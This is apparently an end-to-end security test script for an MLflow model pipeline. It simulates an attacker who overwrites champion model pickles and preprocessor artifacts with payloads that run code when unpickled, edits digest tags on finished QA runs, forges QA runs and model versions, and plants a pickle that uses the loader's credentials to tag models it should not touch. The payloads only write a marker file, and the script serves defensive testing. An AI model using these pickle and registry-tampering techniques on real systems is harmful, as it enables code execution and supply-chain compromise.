"""What an attacker with ordinary write access to the tracking store does (MlflowClient calls, and
writes to the artifact store where said), as a script run in a process of its own against the
store in MLFLOW_TRACKING_URI. It uses only MLflow's client and the pipeline's public algorithms
(the files digest), never the gate's private key. Each payload writes a marker file when it runs.

    python tests/e2e/attacks.py tag-edit MODEL MARKER        the champion's pickle overwritten, then
                                                             the digest tag of its genuine qa run set
    python tests/e2e/attacks.py forge-qa-run MODEL MARKER ALIAS
                                                             a payload model, a qa run made from scratch
                                                             vouching for it, a version of MODEL at ALIAS
    python tests/e2e/attacks.py swap-transformer MODEL MARKER
                                                             the preprocess run behind the champion: its
                                                             preprocessor.cloudpickle overwritten
    python tests/e2e/attacks.py restore MODEL BACKUP         undo tag-edit or swap-transformer
    python tests/e2e/attacks.py gated-payload MODEL MARKER TEAM_MODEL
                                                             a copy of MODEL@champion (its genuine ONNX
                                                             file) whose model.pkl, when unpickled, tries
                                                             to change TEAM_MODEL with the loader's login
"""

from __future__ import annotations

import json
import os
import pickle
import sys
from pathlib import Path

import mlflow
from mlflow import MlflowClient

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))  # run as a script: the project's package
from mlpipe.training import model_io  # noqa: E402

STEP_TAG, MODEL_URI_TAG, DIGEST_TAG, QA_RUN_TAG = "pipeline.step", "pipeline.model_uri", "qa.model_digest", "lineage.qa_run_id"
VERDICT_TAG = "qa.verdict"


class Shell:
    """What the pickle holds: a shell command run when it is unpickled."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return os.system, (f"touch {self.marker}",)


class Writer:
    """What the pickle holds: Python run when it is unpickled that tries, with the login of the
    process that loads it, what only the lead or another member may do (tag the team model, write
    a run into the gate's experiment, tag a member's model), and writes each outcome to the marker."""

    def __init__(self, marker: str, team_model: str, member_model: str):
        self.marker, self.team_model, self.member_model = marker, team_model, member_model

    def __reduce__(self):
        code = (
            "import json, os\nfrom mlflow import MlflowClient\nc = MlflowClient()\n"
            "out = {'user': os.environ.get('MLFLOW_TRACKING_USERNAME')}\n"
            f"tries = {{'tag the team model': lambda: c.set_registered_model_tag({self.team_model!r}, 'pwned', '1'),\n"
            "  'run in the gate experiment': lambda: c.create_run(c.get_experiment_by_name('demo/gate').experiment_id),"
            f"\n  'tag a member model': lambda: c.set_registered_model_tag({self.member_model!r}, 'pwned', '1')}}\n"
            "for what, attempt in tries.items():\n"
            "    try:\n        attempt()\n        out[what] = 'done'\n"
            "    except Exception as exc:\n        out[what] = str(exc)[:300]\n"
            f"open({self.marker!r}, 'w').write(json.dumps(out))\n")
        return exec, (code, {})  # one namespace: the lambdas see the client


def _champion(client: MlflowClient, model: str):
    version = client.get_model_version_by_alias(model, "champion")
    return version, Path(client.get_model_version_download_uri(model, version.version).removeprefix("file://"))


def tag_edit(model: str, marker: str) -> None:
    """The champion's model.pkl overwritten with the payload (a backup beside the marker), then the
    genuine qa run's digest tag set to the new files' digest: MLflow accepts tag edits on FINISHED runs."""
    client = MlflowClient()
    version, where = _champion(client, model)
    qa_run_id = version.tags[QA_RUN_TAG]
    backup = {"pkl": (where / "model.pkl").read_bytes().hex(), "qa_run_id": qa_run_id,
              "digest": client.get_run(qa_run_id).data.tags[DIGEST_TAG], "where": str(where)}
    Path(marker + ".backup").write_text(json.dumps(backup))
    (where / "model.pkl").write_bytes(pickle.dumps(Shell(marker)))
    client.set_tag(qa_run_id, DIGEST_TAG, model_io.model_digest(f"models:/{model}/{version.version}"))


def restore(model: str, backup_file: str) -> None:
    backup = json.loads(Path(backup_file).read_text())
    if "transformer" in backup:
        Path(backup["transformer"]).write_bytes(bytes.fromhex(backup["bytes"]))
        return
    (Path(backup["where"]) / "model.pkl").write_bytes(bytes.fromhex(backup["pkl"]))
    MlflowClient().set_tag(backup["qa_run_id"], DIGEST_TAG, backup["digest"])


def swap_transformer(model: str, marker: str) -> None:
    """The fitted transformer of the preprocess run behind the champion, overwritten in the
    artifact store: the next pipeline that reuses that run (cached) unpickles it in train."""
    client = MlflowClient()
    version, _ = _champion(client, model)
    run = client.get_run(version.tags["lineage.preprocess_run_id"])
    path = Path(run.info.artifact_uri.removeprefix("file://")) / "preprocessor.cloudpickle"
    Path(marker + ".backup").write_text(json.dumps({"transformer": str(path), "bytes": path.read_bytes().hex()}))
    path.write_bytes(pickle.dumps(Shell(marker)))


def forge_qa_run(model: str, marker: str, alias: str) -> None:
    """A model whose pickle is the payload; a qa run made from scratch with every tag of the
    champion's genuine qa run, but naming this model and its digest (its verdict's statement too,
    under the genuine signature), set FINISHED; a version of `model` with the champion's tags,
    pointing at the forged run, at `alias`."""
    from sklearn.dummy import DummyClassifier

    import tempfile

    client = MlflowClient()
    champion, _ = _champion(client, model)
    genuine = client.get_run(champion.tags[QA_RUN_TAG])
    with mlflow.start_run(experiment_id=genuine.info.experiment_id):
        info = mlflow.sklearn.log_model(DummyClassifier().fit([[0]], [0]), name="model",
                                        serialization_format="cloudpickle", pip_requirements=["scikit-learn"])
    with tempfile.TemporaryDirectory() as tmp:  # the payload uploaded over the model's pickle, through the API
        (Path(tmp) / "model.pkl").write_bytes(pickle.dumps(Shell(marker)))
        client.log_model_artifacts(info.model_id, tmp)
    tags = {k: v for k, v in genuine.data.tags.items() if not k.startswith("mlflow.")}
    digest = model_io.model_digest(info.model_uri)
    tags |= {MODEL_URI_TAG: info.model_uri, DIGEST_TAG: digest}
    run = client.create_run(genuine.info.experiment_id, tags=tags)
    if VERDICT_TAG in tags:  # the genuine statement rewritten for this run and model; its signature cannot be
        statement = json.loads(tags[VERDICT_TAG]) | {"model_uri": info.model_uri, "digest": digest,
                                                     "qa_run_id": run.info.run_id}
        client.set_tag(run.info.run_id, VERDICT_TAG, json.dumps(statement, sort_keys=True, separators=(",", ":")))
    client.set_terminated(run.info.run_id, "FINISHED")
    version = client.create_model_version(model, info.model_uri, model_id=info.model_id,
                                          tags=champion.tags | {QA_RUN_TAG: run.info.run_id})
    client.set_registered_model_alias(model, alias, version.version)


def gated_payload(model: str, marker: str, team_model: str) -> None:
    """A member's own kind of attack that passes the team gate: a copy of MODEL@champion's files,
    its ONNX conversion genuine (what the gate scores), its model.pkl a Writer; a version of MODEL
    with the champion's tags, at the champion alias. The gate signs it; a server on the
    scikit-learn runtime unpickles it."""
    import tempfile

    from sklearn.dummy import DummyClassifier

    client = MlflowClient()
    champion = client.get_model_version_by_alias(model, "champion")
    with tempfile.TemporaryDirectory() as tmp:
        files = Path(mlflow.artifacts.download_artifacts(f"models:/{model}/{champion.version}", dst_path=tmp))
        others = sorted(m.name for m in client.search_registered_models() if m.name.startswith(team_model + ".")
                        and m.name != model)
        (files / "model.pkl").write_bytes(pickle.dumps(Writer(marker, team_model, others[0])))
        with mlflow.start_run():
            info = mlflow.sklearn.log_model(DummyClassifier().fit([[0]], [0]), name="model",
                                            serialization_format="cloudpickle", pip_requirements=["scikit-learn"])
        client.log_model_artifacts(info.model_id, str(files))
    version = client.create_model_version(model, info.model_uri, model_id=info.model_id, tags=champion.tags)
    client.set_registered_model_alias(model, "champion", version.version)


if __name__ == "__main__":
    command, *args = sys.argv[1:]
    {"tag-edit": tag_edit, "forge-qa-run": forge_qa_run, "swap-transformer": swap_transformer,
     "restore": restore, "gated-payload": gated_payload}[command](*args)
